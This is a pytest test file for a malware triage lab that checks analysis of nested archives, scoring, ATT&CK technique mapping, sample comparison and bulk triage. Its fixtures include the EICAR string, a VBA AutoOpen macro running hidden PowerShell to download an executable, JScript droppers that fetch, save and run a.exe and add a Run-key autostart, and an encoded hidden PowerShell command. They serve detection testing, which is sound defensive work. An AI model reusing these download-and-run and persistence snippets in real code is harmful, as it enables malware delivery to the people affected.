"""The whole way with the modules that are shipped: files inside, the conclusion, two beside each other, many."""

from __future__ import annotations

import asyncio
import gzip
import importlib.util
import io
import zipfile
from pathlib import Path

import msgspec
import pytest

from athena_lab.api import ChildOptions, TriageOptions
from athena_lab.errors import EmptySample, InvalidField, ModuleRefused, NotAFile, QueueFull, UnknownModule
from athena_lab.lab import open_lab
from athena_lab.many import triage_many
from athena_lab.report import Report
from athena_lab.report.tree import walk
from tests import documents

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
PLAIN = b"A text that says nothing at all.\n" * 20


@pytest.fixture
async def lab(tmp_path):
    async with open_lab(environ={"ATHENA_SAMPLES__FOLDER": str(tmp_path / "quarantine")}) as lab:
        yield lab


@pytest.fixture(scope="module")
def launchers() -> tuple[Path, Path]:
    """Two benign Windows programs that setuptools ships."""
    folder = Path(importlib.util.find_spec("setuptools").origin).parent
    return folder / "cli-64.exe", folder / "gui-64.exe"


def zipped(**files: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def by_name(report: Report) -> dict[str, str]:
    return {node.name: node.status for _, node in walk(report.children)}


async def test_a_word_that_will_not_do_is_told_with_those_that_will(lab):
    with pytest.raises(InvalidField, match=r"'behaviour'.*; one of behavior, full, pattern, quick\."):
        await lab.triage(PLAIN, analysis_type="behaviour")
    with pytest.raises(InvalidField, match=r"one of deobfuscator, file-processor, network, sandbox\."):
        await lab.extract(PLAIN, 0, module="crypto")


# -- the files inside


async def test_files_inside_are_analysed_as_a_tree(lab):
    report = await lab.triage(zipped(inner=zipped(eicar=EICAR), plain=PLAIN))
    nodes = {node.name: (depth, node) for depth, node in walk(report.children)}
    assert {name: depth for name, (depth, _) in nodes.items()} == {"inner": 0, "eicar": 1, "plain": 0}
    eicar, inner = nodes["eicar"][1], nodes["inner"][1]
    assert (eicar.level, eicar.score, eicar.worst[0].id) == ("suspicious", 55, "file-processor/eicar")
    assert (nodes["plain"][1].level, nodes["plain"][1].score) == ("clean-looking", 0)
    assert inner.score == eicar.score == report.conclusion.score  # as bad as what is in it, and no worse
    titles = {finding.id: finding.title for finding in report.findings}
    assert titles["analysis-engine/child-suspicious"] == f"A file inside is suspicious: {eicar.worst[0].title}"
    assert Report.from_json(report.to_json()).children == report.children
    again = await lab.triage(await lab.sample(eicar.sha256))
    assert again.verdict.level == eicar.level


async def test_what_files_inside_lead_to_is_told_by_the_whole(lab):
    """In whatever an archive or a message packs it: its own bytes do not show it."""
    pytest.importorskip("pandas")
    url = "http://hidden-in-the-archive.biz/stage2.php"
    message = f"Subject: hello\r\nMIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\nOpen {url} now."
    report = await lab.triage(zipped(note=zipped(mail=message.encode())))
    assert [lead.value for _, node in walk(report.children) for lead in node.leads if lead.kind == "url"] == [url]
    frame = report.to_dataframe("indicators")
    assert frame[frame["kind"] == "url"][["value", "source", "count"]].to_numpy().tolist() == [[url, "file mail", 1]]
    assert "leads to hxxp[://]hidden-in-the-archive[.]biz/stage2.php" in str(report)
    assert Report.from_json(report.to_json()).children == report.children


async def test_decoys_do_not_hide_where_a_file_inside_leads_to(lab):
    """What a script asks for in its run is told before what only stands in its bytes."""
    decoys = "".join(f"// http://decoy-{number}.biz/{number}\n" for number in range(60))
    script = f"""{decoys}var x = new ActiveXObject("MSXML2.XMLHTTP");
        x.open("GET", ["ht", "tp://", "real-c2", "-host.net/a?", Array(700).join("b")].join(""), false); x.send();"""
    (node,) = (await lab.triage(zipped(**{"a.js": script.encode()}))).children
    assert node.leads[0].value.startswith("http://real-c2-host.net/a?bbb")
    assert (len(node.leads), node.leads_left_out > 20) == (32, True)


async def test_the_source_of_macros_is_run_and_undone_like_any_script(lab):
    """It is packed in a document, and would only be read there."""
    macro = """Sub AutoOpen()
      Dim shell: Set shell = CreateObject(StrReverse("llehS.tpircSW"))
      shell.Run "powershell -w hidden iwr " & Chr(104) & "ttp://macro-" & "stage.biz/a.exe -OutFile a.exe", 0
    End Sub
    """
    report = await lab.triage(documents.compound({"VBA": b"", "Module1": documents.vba_module(macro)}))
    (node,) = [node for node in report.children if node.kind == "source"]
    assert "http://macro-stage.biz/a.exe" in [lead.value for lead in node.leads]
    assert node.level in {"suspicious", "malicious-looking"}
    assert any(finding.id.startswith("sandbox/") for finding in node.worst)


async def test_the_same_bytes_are_analysed_once(lab):
    inner = zipped(one=EICAR, two=EICAR)
    report = await lab.triage(zipped(first=inner, second=inner, third=EICAR))
    assert sorted(by_name(report).values()) == ["analysed", "analysed", "seen", "seen", "seen"]


async def test_a_verdict_does_not_depend_on_where_in_the_tree_a_file_lies(lab):
    """Bytes that come again are not analysed again, and say as much of what they are in as they did."""
    inner = zipped(eicar=EICAR)
    alone = await lab.triage(inner)
    report = await lab.triage(zipped(eicar=EICAR, inner=inner, more=EICAR))
    nodes = [(node.name, node.status, node.level, node.score) for _, node in walk(report.children)]
    assert nodes == [
        ("eicar", "analysed", "suspicious", 55),
        ("inner", "analysed", alone.verdict.level, alone.conclusion.score),
        ("eicar", "seen", "suspicious", 55),
        ("more", "seen", "suspicious", 55),
    ]
    told = [finding.detail for finding in report.findings if "child-suspicious" in finding.id]
    assert sum("eicar (" in detail or "more (" in detail for detail in told) == 1
    assert "    eicar: suspicious (55), seen: The same bytes are elsewhere in the tree." in str(report)


async def test_a_script_that_copies_itself_is_not_told_as_a_file_of_its_own(lab):
    script = b"new ActiveXObject('Scripting.FileSystemObject').CopyFile(WScript.ScriptFullName, 'C:\\\\a.js');"
    (copy,) = (await lab.triage(await lab.add(script, "a.js"))).children
    assert (copy.status, copy.reason) == ("seen", "It is the sample itself.")


@pytest.mark.parametrize(
    ("children", "statuses"),
    [
        (ChildOptions(depth=0), []),
        (ChildOptions(depth=1), ["analysed", "analysed"]),
        (ChildOptions(count=1), ["analysed", "left-out"]),
        (ChildOptions(count=0), ["left-out", "left-out"]),
        (ChildOptions(seconds=0), ["left-out", "left-out"]),
        (ChildOptions(total_bytes=len(PLAIN)), ["analysed", "left-out"]),
    ],
)
async def test_the_whole_tree_has_one_budget(lab, children, statuses):
    report = await lab.triage(zipped(big=PLAIN * 9, small=PLAIN), options=TriageOptions(children=children))
    assert sorted(by_name(report).values()) == statuses
    assert all(node.reason for _, node in walk(report.children) if node.status == "left-out")


async def test_pictures_and_what_is_empty_take_none_of_the_budget(lab):
    report = await lab.triage(
        zipped(picture=b"\x89PNG\r\n\x1a\n" + bytes(60), empty=b"", text=PLAIN),
        options=TriageOptions(children=ChildOptions(count=1)),
    )
    assert by_name(report) == {"picture": "left-out", "empty": "left-out", "text": "analysed"}


async def test_programs_come_before_texts(lab, launchers):
    files = {f"text{index}": PLAIN + bytes([index]) for index in range(5)}
    sample = zipped(**files, program=launchers[0].read_bytes())
    report = await lab.triage(sample, options=TriageOptions(children=ChildOptions(count=1)))
    assert by_name(report)["program"] == "analysed"
    assert [node.status for _, node in walk(report.children)].count("analysed") == 1


async def test_rows_without_an_analysis_hide_no_program(lab, launchers, monkeypatch):
    monkeypatch.setattr("athena_lab.descent.MAX_ASIDE", 7)
    pictures = {f"picture{index}": b"\x89PNG\r\n\x1a\n" + bytes([index]) * 60 for index in range(9)}
    report = await lab.triage(zipped(**pictures, program=launchers[0].read_bytes()))
    assert by_name(report)["program"] == "analysed"
    assert len(report.children) == 8


@pytest.mark.parametrize("inner", ["picture", "text"])
async def test_nor_do_those_of_an_archive_before_it(lab, launchers, monkeypatch, inner):
    monkeypatch.setattr("athena_lab.descent.MAX_ASIDE", 4)
    monkeypatch.setattr("athena_lab.descent.MAX_MISSED", 4)
    head = b"\x89PNG\r\n\x1a\n" if inner == "picture" else PLAIN
    wide = zipped(**{f"{inner}{index}": head + bytes([index]) * 60 for index in range(9)})
    options = TriageOptions(children=ChildOptions(depth=1))
    report = await lab.triage(zipped(a=wide, program=launchers[0].read_bytes()), options=options)
    assert by_name(report)["program"] == "analysed"
    assert len(list(walk(report.children))) == 6


async def test_what_the_budget_leaves_out_is_told_in_the_verdict(lab):
    few = TriageOptions(children=ChildOptions(count=1))
    report = await lab.triage(zipped(one=PLAIN, two=PLAIN * 2, three=PLAIN * 3), options=few)
    assert report.verdict.sentence.endswith("Not everything was analysed: 2 files inside were left out.")
    deep = await lab.triage(zipped(a=zipped(b=zipped(c=zipped(d=PLAIN)))))
    assert deep.verdict.sentence.endswith("Not everything was analysed: 1 file inside was left out.")
    whole = await lab.triage(zipped(one=PLAIN, two=PLAIN))
    assert "Not everything" not in whole.verdict.sentence


async def test_a_module_that_fails_on_a_file_inside_is_told_in_the_verdict(lab):
    hang = b"Array(200001).join('ab').match(/[ab]*c/);"
    report = await lab.triage(zipped(**{"a.js": hang}), options=TriageOptions(children=ChildOptions(seconds=2.0)))
    (node,) = report.children
    assert (node.status, node.reason) == ("analysed", "in part: sandbox failed")
    assert report.verdict.sentence.endswith("Not everything was analysed: 1 file inside only in part.")
    assert "in part: sandbox failed" in report.to_text()


async def test_a_script_that_is_not_run_to_its_end_is_told_in_the_verdict(lab):
    nested = "try { var s = '1'; for (var i = 0; i < 120; i++) s = '[' + s + ']'; eval(s) } catch (e) {}"
    report = await lab.triage(await lab.add(nested.encode(), "a.js"))
    assert report.verdict.sentence.endswith("Not everything was analysed: a script was not run to its end.")
    large = await lab.triage(await lab.add(b"//" + b"x" * (16 << 20) + b"\nWScript.Echo(1)", "a.js"))
    assert "not all scripts were run; not all layers were undone" in large.verdict.sentence


async def test_rules_of_a_session_are_matched_with_the_files_inside(lab):
    rules = await lab.compile_rules(sources='rule mine { strings: $a = "says nothing" condition: $a }')
    report = await lab.triage(zipped(text=PLAIN), options=TriageOptions(sessions=(rules.session,)))
    assert "mine" not in {match.rule for match in report.patterns.matches}
    (node,) = report.children
    assert [finding.id for finding in node.worst if "mine" in finding.id]


async def test_a_module_that_gives_out_other_bytes_than_it_lists_is_not_believed(lab, monkeypatch):
    innocent = await lab.add(PLAIN)

    async def another(*_args):
        return innocent

    monkeypatch.setattr(lab._triager, "_take_out", another)  # no module of ours does it
    (node,) = (await lab.triage(zipped(eicar=EICAR))).children
    assert (node.status, node.level) == ("failed", "unknown")


async def test_what_was_listed_falsely_once_is_analysed_where_it_really_is(lab, monkeypatch):
    innocent, take_out = await lab.add(PLAIN), lab._triager._take_out
    given = iter([innocent])

    async def falsely_at_first(*args):
        return next(given, None) or await take_out(*args)

    monkeypatch.setattr(lab._triager, "_take_out", falsely_at_first)  # no module of ours does it
    first, second = (await lab.triage(zipped(one=EICAR, two=EICAR))).children
    assert (first.status, second.status, second.level) == ("failed", "analysed", "suspicious")


async def test_taking_a_file_out_has_one_deadline_for_all_its_parts(lab, monkeypatch):
    async def slowly(*_args, **_options):
        await asyncio.sleep(30)

    monkeypatch.setattr(lab._triager, "extract", slowly)
    options = TriageOptions(children=ChildOptions(seconds=1.0))
    (node,) = (await lab.triage(zipped(eicar=EICAR), options=options)).children
    assert (node.status, "not taken out within 1 s" in node.reason) == ("failed", True)


async def test_a_chain_of_packers_ends_at_the_depth_that_is_asked_for(lab):
    sample = EICAR
    for _ in range(6):
        sample = gzip.compress(sample, mtime=0)
    report = await lab.triage(sample, options=TriageOptions(children=ChildOptions(depth=3)))
    told = [(depth, node.status, node.reason) for depth, node in walk(report.children)]
    assert told == [*((depth, "analysed", "") for depth in range(3)), (3, "left-out", "More than 3 levels deep.")]


async def test_quick_looks_do_not_go_inside(lab):
    for analysis_type in ("quick", "pattern"):
        report = await lab.triage(zipped(eicar=EICAR), analysis_type=analysis_type)
        assert report.children == ()


async def test_what_a_document_does_is_what_its_macros_do(lab):
    macro = 'Sub AutoOpen()\r\nDim s As Object\r\nShell "cmd /c " & StrReverse("clac")\r\nEnd Sub\r\n'
    document = documents.compound({"VBA": b"", "Module1": documents.vba_module(macro)})
    report = await lab.triage(zipped(invoice=document), analysis_type="behavior")
    (invoice,) = report.children
    (source,) = invoice.children
    assert any("sandbox/" in finding.id for finding in source.worst)


async def test_the_children_of_a_report_stay_as_they_were_asked_for(lab):
    sample = await lab.add(zipped(eicar=EICAR))
    without = await lab.triage(sample, options=TriageOptions(children=ChildOptions(depth=0)))
    assert (without.children, len((await lab.triage(sample)).children)) == ((), 1)


# -- the conclusion


async def test_the_score_shows_its_arithmetic(lab):
    report = await lab.triage(EICAR)
    (part,) = report.conclusion.contributions
    assert (part.finding, part.severity, part.confidence) == ("file-processor/eicar", "high", 100)
    (total,) = report.conclusion.sums
    assert part.counted == total.counted == report.conclusion.score == total.weight == 55
    assert report.verdict.sentence.startswith("Suspicious (55 of 100): 1 high finding")
    assert "Score: 55 of 100" in report.to_html()
    assert "Score: 55 of 100" in report.to_markdown()


async def test_techniques_have_names_and_tactics(lab):
    sample = (
        b"powershell -nop -w hidden -enc "
        b"SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
    )
    report = await lab.triage(sample)
    named = {technique.id: technique for technique in report.conclusion.techniques}
    assert named["T1059.001"].name == "PowerShell"
    assert named["T1059.001"].tactics == ("execution",)
    assert named["T1059.001"].findings
    assert "PowerShell" in report.to_html()
    outer = await lab.triage(zipped(inner=sample))
    assert outer.conclusion.techniques == ()  # of the archive itself
    (powershell,) = (technique for technique in outer.techniques if technique.id == "T1059.001")
    assert powershell.findings[0] == f"inner: {named['T1059.001'].findings[0]}"
    for form in (outer.to_html(), outer.to_markdown()):
        assert "Execution" in form


async def test_a_hang_of_a_module_is_a_finding_and_not_the_end(lab):
    sample = await lab.add(b"just a text, and nothing else " * 100)
    await lab.triage(sample)
    lab._runtime.limit("network", None, 0.0001)  # no sample of ours makes a module of ours hang
    other = await lab.add(b"another text, and nothing else " * 100)
    report = await lab.triage(other)
    assert report.status == "partial"
    assert "analysis-engine/module-out-of-time" in {finding.id for finding in report.findings}
    assert report.facts is not None


async def test_without_the_engine_the_worst_finding_decides(lab):
    await lab.triage(PLAIN)
    await lab.unload("analysis-engine")
    report = await lab.triage(EICAR)
    assert (report.conclusion, report.verdict.level) == (None, "suspicious")


async def test_a_report_says_what_was_unloaded(lab):
    whole = await lab.triage(EICAR)
    await lab.unload("crypto")
    await lab.unload("network")
    report = await lab.triage(EICAR)
    assert (whole.unloaded, report.unloaded) == ((), ("crypto", "network"))
    assert report.verdict.sentence.endswith(" Not everything was analysed: crypto, network are unloaded.")
    assert Report.from_json(report.to_json()).unloaded == report.unloaded
    # Who asks for less has all that was asked for.
    assert (await lab.triage(EICAR, analysis_type="quick")).unloaded == ()
    assert (await lab.triage(EICAR, modules=["file-processor"])).unloaded == ()
    await lab.load(["crypto"])
    assert (await lab.triage(EICAR)).unloaded == ("network",)


async def test_the_engine_is_named_with_those_that_it_concludes_from(lab):
    report = await lab.triage(EICAR, modules=["file-processor", "analysis-engine"])
    assert report.conclusion.score == 55
    assert (await lab.triage(EICAR, modules=["file-processor"])).conclusion is None
    with pytest.raises(InvalidField, match="analysis-engine concludes from"):
        await lab.triage(EICAR, modules=["analysis-engine"])
    await lab.unload("analysis-engine")
    with pytest.raises(UnknownModule):
        await lab.triage(EICAR, modules=["file-processor", "analysis-engine"])


async def test_a_conclusion_streams_behind_what_it_is_drawn_from(lab):
    async with lab.stream_triage(zipped(eicar=EICAR)) as parts:
        seen = [part async for part in parts]
    assert seen[-2].module == "analysis-engine"
    assert isinstance(seen[-1], Report)
    assert [result.module for result in seen[:-1]].count("analysis-engine") == 1


async def test_what_was_not_loaded_has_no_verdict(lab):
    script = (
        'var h = new ActiveXObject("MSXML2.XMLHTTP"); h.open("GET", "http://a.example/b", false); h.send();'
        'var s = new ActiveXObject("ADODB.Stream"); s.Open(); s.Type = 1; s.Write(h.responseBody);'
        r's.SaveToFile("C:\\Users\\Public\\a.exe"); new ActiveXObject("WScript.Shell").Run("C:\\Users\\Public\\a.exe");'
    )
    report = await lab.triage(await lab.add(script.encode(), "a.js"))
    (child,) = report.behaviour.children
    assert (child.kind, child.sha256) == ("stand-in", "")
    (node,) = report.children
    assert (node.status, node.level, node.score) == ("left-out", "unknown", None)
    assert "not known: the sandbox reaches no network" in node.reason
    with pytest.raises(ModuleRefused, match="no part of the sample"):
        await lab.extract(report.sample, child.index, module="sandbox")


async def test_what_the_sandbox_says_is_not_said_again(lab):
    script = (
        'var s = new ActiveXObject("WScript.Shell"); var h = new ActiveXObject("MSXML2.XMLHTTP");'
        'h.open("GET", "http://a.example/b", false); h.send(); var t = new ActiveXObject("ADODB.Stream"); t.Open();'
        r't.Type = 1; t.Write(h.responseBody); t.SaveToFile("C:\\a.exe"); s.Run("C:\\a.exe");'
        r's.RegWrite("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\a", "C:\\a.exe");'
    )
    report = await lab.triage(await lab.add(script.encode(), "a.js"))
    telling = [finding.id for finding in report.findings if finding.severity in {"critical", "high"}]
    assert telling == [
        "sandbox/downloads-and-runs",
        "sandbox/persists-autostart",
        "pattern-matcher/rule-script-host-dropper",
    ]
    assert report.verdict.level == "malicious-looking"


# -- two beside each other


async def test_two_samples_are_compared(lab, launchers):
    same = await lab.compare(launchers[0], launchers[0])
    assert (same.identical, same.alike, str(same)[:15]) == (True, 100.0, "The same bytes.")
    both = await lab.compare(*launchers)
    assert not both.identical
    assert 0 < both.alike < 100
    imports, sections = both.shared("imports"), both.shared("sections")
    assert (imports.alike, imports.common_count > 20) == (100.0, True)
    assert sections.only_first_count > 0
    assert {name.split()[0] for name in sections.only_first} <= {".text", ".rdata", ".data", ".pdata"}
    assert both.likeness.tlsh is not None
    subsystem = next(row for row in both.properties if row.name == "subsystem")
    assert (subsystem.same, subsystem.first == subsystem.second) == (False, False)
    text, html = both.to_text(), both.to_html()
    assert "cli-64.exe" in text
    assert "gui-64.exe" in html


async def test_what_nothing_is_known_of_is_alike_in_nothing(lab):
    compared = await lab.compare(b"\x00\x01", b"\x02")
    assert compared.likeness.ssdeep is None or compared.likeness.ssdeep == 0
    assert compared.shared("imports").alike is None
    with pytest.raises(KeyError):
        compared.shared("nothing")
    assert msgspec.json.decode(msgspec.json.encode(compared), type=type(compared)) == compared


# -- many


async def test_many_samples_come_as_they_are_ready_and_a_bad_one_leaves_the_others_alone(lab, tmp_path):
    sources = [f"sample {index}".encode() * 50 for index in range(20)]
    async with lab.triage_many([*sources, b"", tmp_path], at_once=3) as many:
        triaged = [one async for one in many]
    reports = {one.source: one.report for one in triaged if one.report}
    assert set(reports) == set(sources)
    assert all(report.sample.size == len(source) for source, report in reports.items())
    assert {type(one.error) for one in triaged if one.error} == {EmptySample, NotAFile}


async def test_leaving_many_cancels_what_runs(lab):
    sources = (f"sample {index}".encode() * 50 for index in range(1_000_000))
    async with lab.triage_many(sources, at_once=4) as many:
        async for one in many:
            assert one.report
            break
    assert lab._runtime.busy == 0  # nothing else tells that nothing runs
    assert len(asyncio.all_tasks()) == 1


@pytest.mark.parametrize("at_once", [0, 65, -1])
async def test_many_needs_a_number_at_once_that_makes_sense(lab, at_once):
    with pytest.raises(InvalidField, match="at_once"):
        async with lab.triage_many([b"x"], at_once=at_once):
            pass


async def test_a_full_queue_is_waited_for(tmp_path):
    environ = {
        "ATHENA_SAMPLES__FOLDER": str(tmp_path),
        "ATHENA_BULKHEADS__CONTAINER__WORKERS": "1",
        "ATHENA_BULKHEADS__CONTAINER__QUEUE": "6",
    }
    async with open_lab(environ=environ) as lab:
        sources = [f"sample {index}".encode() * 50 for index in range(12)]
        async with lab.triage_many(sources, at_once=12) as many:
            assert all([one.report is not None async for one in many])


async def test_a_queue_that_stays_full_is_given_up_after_five_minutes():
    waited = []

    async def sleep(seconds):
        waited.append(seconds)

    async def triage(source):
        raise QueueFull(f"It is full for {source!r}.", module="crypto")

    async with triage_many(triage, [b"x", b"y"], 1, sleep=sleep) as many:
        triaged = [one async for one in many]
    assert [type(one.error) for one in triaged] == [QueueFull, QueueFull]
    assert sum(waited) / 2 == pytest.approx(300, abs=1)


async def test_the_sources_are_taken_one_by_one():
    taken = []

    def sources():
        for index in range(10):
            taken.append(index)
            yield bytes([index])

    async def triage(source):
        return source

    async with triage_many(triage, sources(), 2) as many:
        async for _ in many:
            assert len(taken) <= 4
            break
